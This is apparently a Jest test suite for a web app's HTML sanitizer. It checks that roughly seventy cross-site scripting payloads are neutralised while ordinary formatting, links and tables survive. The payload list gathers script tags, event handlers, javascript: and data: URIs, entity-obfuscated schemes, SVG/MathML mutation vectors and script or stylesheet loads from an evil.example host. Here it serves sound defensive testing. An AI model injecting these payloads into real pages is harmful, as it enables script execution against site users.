/**
 * @jest-environment jsdom
 */
import { announcementText, previewHtml, sanitizeHtml } from '@/lib/html/sanitize';

// Classics from the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet and known
// DOMPurify mutation-XSS reports.
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<a href="#" ONMOUSEOVER="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<span style="behavior: url(x.htc)">x</span>',
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td background="javascript:alert(1)">',
  '<div onmouseover="alert(1)"',
  '<p onclick=alert(1)//',
  '<b onmouseover=alert(1)>x</b>',
  '<div/onmouseover=alert(1)>x</div>',
  '<div\u0000onmouseover=alert(1)>x</div>',
  '<img/src/onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<p id="cookie" name="location">clobbering</p>',
  '<a id="x" href="https://ok.example" target="_self" rel="opener">x</a>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
];

function expectHarmless(output: string): void {
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(output).not.toMatch(/\sstyle\s*=/i);
  expect(output).not.toMatch(/<(?:svg|math|iframe|object|embed|form|input|button|img|style|link|meta|base|template)\b/i);
  expect(output).not.toMatch(/\s(?:id|name|class|src|srcdoc|action|formaction|background)\s*=/i);
}

describe('sanitizeHtml', () => {
  it('has a corpus of at least 40 payloads', () => {
    expect(XSS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS)('defuses %j', (payload) => {
    const once = sanitizeHtml(payload);
    expectHarmless(once);
    // Idempotent: sanitizing the output again changes nothing (no mutation on re-parse).
    expect(sanitizeHtml(once)).toBe(once);
  });

  it('keeps formatting, lists, links and tables with their text', () => {
    const html =
      '<h2>Draw <em>times</em></h2><p><b>Bold</b> <strong>strong</strong> <i>i</i> <u>u</u> <s>s</s> ' +
      'x<sub>2</sub> y<sup>3</sup> <small>fine</small><br></p><blockquote>quote</blockquote><hr>' +
      '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>' +
      '<a href="https://example.com/results?d=1">results</a> <a href="/admin/home">home</a> ' +
      '<a href="mailto:help@example.com">mail</a> <a href="#top">top</a>' +
      '<table><caption>Pay</caption><thead><tr><th colspan="2">Big</th></tr></thead>' +
      '<tbody><tr><td rowspan="2">2500</td><td>1</td></tr></tbody></table>';
    const output = sanitizeHtml(html);
    const container = document.createElement('div');
    container.innerHTML = html;
    const expectedText = container.textContent;
    container.innerHTML = output;
    expect(container.textContent).toBe(expectedText);
    for (const tag of ['h2', 'em', 'b', 'strong', 'i', 'u', 's', 'sub', 'sup', 'small', 'br', 'blockquote', 'hr', 'ul', 'ol', 'li', 'a', 'table', 'caption', 'thead', 'tbody', 'tr', 'th', 'td']) {
      expect(container.querySelector(tag)).not.toBeNull();
    }
    const hrefs = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/results?d=1', '/admin/home', 'mailto:help@example.com', '#top']);
    expect(container.querySelector('th')?.getAttribute('colspan')).toBe('2');
    expect(container.querySelector('td')?.getAttribute('rowspan')).toBe('2');
  });

  it('opens every link in a new tab without an opener or a referrer', () => {
    const output = sanitizeHtml('<a href="https://example.com" target="_self" rel="opener">a</a><a>b</a>');
    const container = document.createElement('div');
    container.innerHTML = output;
    for (const link of container.querySelectorAll('a')) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it.each(['ftp://example.com/x', 'tel:+6512345678', 'file:///etc/passwd', 'blob:https://example.com/x'])(
    'drops the href %j',
    (href) => {
      expect(sanitizeHtml(`<a href="${href}">x</a>`)).toBe('<a target="_blank" rel="noopener noreferrer">x</a>');
    },
  );

  it('drops classes, styles and odd spans but keeps the text', () => {
    expect(sanitizeHtml('<p class="x" style="color:red" title="t">hi</p>')).toBe('<p title="t">hi</p>');
    expect(sanitizeHtml('<table><tr><td colspan="0" rowspan="x">a</td></tr></table>')).toBe(
      '<table><tbody><tr><td>a</td></tr></tbody></table>',
    );
  });

  it('keeps the text of removed containers and drops script and style contents', () => {
    expect(sanitizeHtml('<form><label>Name</label></form><script>secret()</script><style>p{}</style>')).toBe('Name');
    expect(sanitizeHtml('<img src="https://tracker.example/p.gif" alt="pixel">text')).toBe('text');
  });

  it('closes unclosed tags and lower-cases uppercase ones', () => {
    expect(sanitizeHtml('<B>bold<UL><LI>item')).toBe('<b>bold<ul><li>item</li></ul></b>');
  });

  it('registers its hook once: sanitizing many times adds rel once', () => {
    for (let i = 0; i < 3; i += 1) sanitizeHtml('<a href="/x">x</a>');
    expect(sanitizeHtml('<a href="/x">x</a>')).toBe('<a href="/x" target="_blank" rel="noopener noreferrer">x</a>');
  });
});

describe('announcementText: one line of plain text for a table cell', () => {
  test('tags and scripts go, entities read as their characters, space collapses', () => {
    expect(announcementText('<p>Sales &amp; results</p>\n<ul><li>1 &lt; 2</li></ul><script>alert(1)</script>')).toBe('Sales & results 1 < 2');
    expect(announcementText('<b>a</b>&nbsp;&quot;b&quot; <img src=x onerror=alert(1)>')).toBe('a "b"');
    expect(announcementText('')).toBe('');
  });
});

describe('previewHtml: the preview gives what the pages show, with no handler left to parse', () => {
  test.each(XSS)('%s', (html) => {
    expect(previewHtml(html)).toBe(sanitizeHtml(html));
  });
  test('handlers inside tags are renamed before parsing; text that reads like one stays', () => {
    expect(previewHtml('<p>go on=now <b onerror="x()" ONCLICK=y>b</b><a href="/x"/onmouseover=z>a</a></p>')).toBe(sanitizeHtml('<p>go on=now <b>b</b><a href="/x">a</a></p>'));
  });
});
